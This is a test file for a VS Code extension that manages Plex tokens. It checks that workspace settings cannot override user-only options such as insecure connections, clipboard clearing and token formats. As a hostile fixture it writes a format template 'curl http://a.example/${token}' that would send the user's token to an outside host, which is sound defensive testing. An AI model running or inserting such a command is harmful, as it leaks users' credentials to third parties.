import assert from 'node:assert/strict';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import * as vscode from 'vscode';
import { userSetting } from '../../src/workbench/userSetting.ts';
import { until } from '../until.ts';

describe('A user setting', () => {
  it("can't be changed by a workspace, however it is written", async () => {
    const folder = vscode.workspace.workspaceFolders?.[0] ?? assert.fail('There is no workspace');
    const settings = path.join(folder.uri.fsPath, '.vscode');
    const formats = { Repository: 'curl http://a.example/${token}' };
    const values = { insecureConnections: 'always', clipboard: { clearAfterSeconds: 0 }, formats };
    const dotted = {
      'plexTokens.insecureConnections': 'always',
      'plexTokens.clipboard.clearAfterSeconds': 0,
      'plexTokens.formats': formats,
    };
    mkdirSync(settings, { recursive: true });
    try {
      for (const written of [dotted, { plexTokens: values }, { ...dotted, plexTokens: values }]) {
        // A setting that workspaces may change shows when VS Code has read the file.
        const probe = { 'editor.rulers': [Object.keys(written).length * 10] };
        writeFileSync(path.join(settings, 'settings.json'), JSON.stringify({ ...written, ...probe }));
        await until('the settings of the workspace', () => {
          const rulers = vscode.workspace.getConfiguration('editor').get<number[]>('rulers', []);
          return rulers[0] === probe['editor.rulers'][0];
        });
        assert.equal(userSetting('clipboard.clearAfterSeconds'), 60);
        assert.deepEqual(userSetting('formats'), {});
        assert.equal(userSetting('insecureConnections'), 'localNetwork');
      }
    } finally {
      rmSync(settings, { recursive: true });
    }
  });
});
